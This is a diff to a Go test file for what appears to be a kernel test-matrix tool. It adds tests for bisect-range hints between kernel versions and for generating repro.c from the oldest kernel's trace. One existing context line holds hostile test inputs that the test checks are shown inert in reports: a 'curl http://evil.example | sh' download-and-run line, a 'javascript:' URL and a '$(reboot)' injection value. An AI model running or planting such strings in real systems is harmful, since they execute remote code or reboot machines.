@@ -15,6 +15,7 @@ import (
 
 	"github.com/runmatrix/runmatrix/kernels"
 	"github.com/runmatrix/runmatrix/matrix/results"
+	"github.com/runmatrix/runmatrix/testcases"
 	"github.com/runmatrix/runmatrix/testcases/outcome"
 )
 
@@ -88,4 +89,64 @@ func TestReportKeepsCellTextInert(t *testing.T) {
 	for _, s := range []string{"# Run: curl http://evil.example | sh", "![img](http://evil.example/x.png)", "javascript:alert(1)", "'$(reboot)`x`'"} {
 		require.Contains(t, code.String(), s, "shown as code")
 	}
+}
+
+// TestBisectHintAtTheFirstBoundary: the mainline hint brackets the first
+// change in version order with upstream tags bisect accepts, not the
+// oldest and newest kernels' package versions (it was
+// mainline:v4.4.0.210.242..v6.12.118), and is left out, with the reason,
+// when both sides build on the same upstream release.
+func TestBisectHintAtTheFirstBoundary(t *testing.T) {
+	cell := func(ref, release, pkgVersion, summary string) *results.Result {
+		return &results.Result{Key: results.Key{Case: "x", Profile: "default", Kernel: ref},
+			KernelInfo: results.Kernel{Ref: ref, Release: release, Arch: "x86_64", Origin: kernels.Origin{Package: "linux-image", PackageVersion: pkgVersion}},
+			Outcome:    outcome.Outcome{Status: outcome.OK, Summary: summary}}
+	}
+	u1604 := cell("ubuntu:16.04", "4.4.0-210-generic", "4.4.0-210.242", "a")
+	u1804 := cell("ubuntu:18.04", "4.15.0-213-generic", "4.15.0-213.224", "b")
+	d612 := cell("debian:6.12", "6.12.118+deb13-amd64", "6.12.118-1", "b")
+	lo, hi, why := boundary([]*results.Result{u1604, u1804, d612})
+	require.Empty(t, why)
+	require.Equal(t, "v4.4..v4.15", lo+".."+hi)
+
+	c65 := cell("centos:6.5", "2.6.32-431.29.2.el6.x86_64", "2.6.32-431.29.2.el6", "a")
+	c66 := cell("centos:6.6", "2.6.32-504.el6.x86_64", "2.6.32-504.el6", "b")
+	_, _, why = boundary([]*results.Result{c65, c66})
+	require.Contains(t, why, "two builds of upstream v2.6.32")
+
+	d61 := cell("debian:6.1", "6.1.0-41-amd64", "6.1.158-1", "a")
+	lo, hi, why = boundary([]*results.Result{d61, d612})
+	require.Empty(t, why)
+	require.Equal(t, "v6.1.158..v6.12.118", lo+".."+hi)
+}
+
+// TestTracedReplayIsTheOldest: a traced program's repro.c is made from the
+// oldest kernel's trace, so its old outcome (exit 0) is the oldest
+// kernel's, as REPORT.md says, even where a newer trace has more steps.
+func TestTracedReplayIsTheOldest(t *testing.T) {
+	step := func(errno string) outcome.Step {
+		s := outcome.Step{Label: "socket", Call: "socket", Fd: "", Args: []outcome.Arg{{Name: "type", Value: "SOCK_STREAM"}}, Ret: 3, RetFd: true}
+		if errno != "" {
+			s.Ret, s.Errno, s.RetFd = -1, errno, false
+		}
+		return s
+	}
+	cell := func(ref, release, summary string, steps ...outcome.Step) results.Result {
+		return results.Result{Key: results.Key{Case: "program:p", Profile: "default", Kernel: ref},
+			KernelInfo: results.Kernel{Ref: ref, Release: release, Arch: "x86_64"},
+			Outcome:    outcome.Outcome{Status: outcome.OK, Summary: summary, Reported: summary, Steps: steps}, Reps: 1, Agree: 1}
+	}
+	testcases.Register(&testcases.Case{ID: "program:p", Title: "p", About: "a program", Source: "-", Run: func(*testcases.T) error { return nil }})
+	res := &results.Results{Format: results.Format, Cells: []results.Result{
+		cell("new", "6.12.0", "exit=0", step(""), step("")),
+		cell("old", "2.6.32", "exit=1", step("EAFNOSUPPORT")),
+	}}
+	dir := t.TempDir()
+	_, err := Write(dir, res, Options{Cases: []string{"program:p"}, Rerun: []string{"runmatrix"}})
+	require.NoError(t, err)
+	src, err := os.ReadFile(filepath.Join(dir, "repro.c"))
+	require.NoError(t, err)
+	require.Contains(t, string(src), `generated from the trace on old (2.6.32)`)
+	require.Contains(t, string(src), `#define OLD_ON "old (2.6.32)"`)
+	require.Contains(t, string(src), `#define NEW_ON "new (6.12.0)"`)
 }
